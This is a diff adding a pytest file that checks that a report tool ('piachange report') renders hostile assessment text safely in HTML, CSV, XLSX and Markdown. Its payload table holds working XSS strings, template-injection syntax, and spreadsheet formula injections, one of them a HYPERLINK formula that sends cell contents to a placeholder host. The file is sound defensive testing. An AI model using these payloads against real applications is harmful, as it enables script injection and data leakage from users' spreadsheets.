@@ -1,0 +1,146 @@
+"""Hostile assessment text stays text in every output format, end to end through ``piachange report``.
+
+HTML: markup, attributes and template syntax are shown, never interpreted. CSV: no cell starts
+like a formula. XLSX: every cell is a string, never a formula. Markdown: the table keeps its columns.
+"""
+
+from __future__ import annotations
+
+import csv
+import html.parser
+import io
+import json
+import pathlib
+import subprocess
+import sys
+import zipfile
+
+import openpyxl
+import pytest
+
+from conftest import Repo
+from docs_factory import base, text
+
+# item -> hostile value (the key path inside seed 002)
+PAYLOADS: dict[tuple[str, ...], str] = {
+    ("cover", "title"): '<script>alert("title")</script>',
+    ("cover", "organization"): '"><img src=x onerror=alert(1)>',
+    ("basic", "department", "name"): "{{ 7*191 }}",
+    ("basic", "department", "head_title"): "{% for i in range(3) %}ループ{% endfor %}",
+    ("basic", "affair", "name"): '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
+    ("basic", "other_bodies", "names"): "+1+1",
+    ("basic", "mynumber_use", "legal_basis"): "-2+3",
+    ("basic", "linkage", "legal_basis"): "@SUM(A1:A2)",
+    ("cover", "special_notes"): "\t=1+1",
+    ("basic", "affair", "description"): "a | b\n| c |\n</td></tr></table><b>太字</b>",
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_FILE = 'assessments/"><svg onload=alert(2)>.toml'
+HOSTILE_SUBJECT = "<script>alert('commit')</script> =1+1"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Repo:
+    """A repository whose second commit writes every payload (and a hostile file name and subject)."""
+    repo = Repo(tmp_path_factory.mktemp("safe") / "repo")
+    repo.write(HOSTILE_FILE, text(base()))
+    repo.commit("初版")
+    d = base()
+    for path, value in PAYLOADS.items():
+        node = d
+        for key in path[:-1]:
+            node = node[key]
+        node[path[-1]] = value
+    repo.write(HOSTILE_FILE, text(d))
+    repo.commit(HOSTILE_SUBJECT)
+    return repo
+
+
+def report(repo: Repo, fmt: str) -> bytes:
+    res = subprocess.run([sys.executable, "-m", "piachange", "report", "--since", "HEAD~1", "--format", fmt],
+                         cwd=repo.path, capture_output=True, timeout=120)
+    assert res.returncode == 0, res.stderr.decode("utf-8")
+    assert res.stderr == b""
+    return res.stdout
+
+
+def test_every_payload_is_a_row(hostile: Repo) -> None:
+    rows = json.loads(report(hostile, "json"))["rows"]
+    got = {r["path"]: r["after"] for r in rows}
+    assert got == {".".join(k): v for k, v in PAYLOADS.items()}
+
+
+class _Collector(html.parser.HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.text: list[str] = []
+        self.scripts: list[str] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+        self._in_script = tag == "script"
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_script = False
+
+    def handle_data(self, data: str) -> None:
+        (self.scripts if self._in_script else self.text).append(data)
+
+
+def test_html_shows_markup_and_template_syntax_as_text(hostile: Repo) -> None:
+    page = report(hostile, "html").decode("utf-8")
+    doc = _Collector()
+    doc.feed(page)
+    tags = {t for t, _ in doc.tags}
+    assert not tags & {"img", "svg", "b"}, tags
+    assert not [(t, a) for t, a in doc.tags for name, _ in a if name.startswith("on")]
+    assert not [s for s in doc.scripts if "alert(" in s]
+    assert "1337" not in page and "ループループ" not in page  # Jinja2 syntax in data is never evaluated
+    shown = "".join(doc.text)
+    for value in PAYLOADS.values():
+        for line in value.split("\n"):
+            assert line.strip() in shown, line
+    assert "svg onload=alert(2)>.toml" in shown
+
+
+def test_csv_cells_never_start_like_a_formula(hostile: Repo) -> None:
+    data = report(hostile, "csv").decode("utf-8")
+    assert data.startswith("\ufeff")
+    table = list(csv.reader(io.StringIO(data[1:], newline="")))
+    for row in table:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START), cell
+    cells = {c for row in table for c in row}
+    for value in PAYLOADS.values():
+        assert (("'" + value) if value.startswith(FORMULA_START) else value) in cells, value
+
+
+def test_xlsx_cells_are_strings_never_formulas(hostile: Repo, tmp_path: pathlib.Path) -> None:
+    raw = report(hostile, "xlsx")
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    values = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (cell.coordinate, cell.value)
+                values.add(cell.value)
+    for value in PAYLOADS.values():
+        assert value in values, value
+
+
+def test_markdown_table_keeps_its_columns(hostile: Repo) -> None:
+    md = report(hostile, "md").decode("utf-8")
+    table = [line for line in md.splitlines() if line.startswith("|")]
+    assert len(table) == 2 + len(PAYLOADS)
+
+    def columns(line: str) -> int:
+        return line.replace("\\\\", "").replace("\\|", "").count("|")
+
+    assert {columns(line) for line in table} == {columns(table[0])}
+    assert "<script>" not in md and "<img" not in md and "<b>" not in md and "</table>" not in md
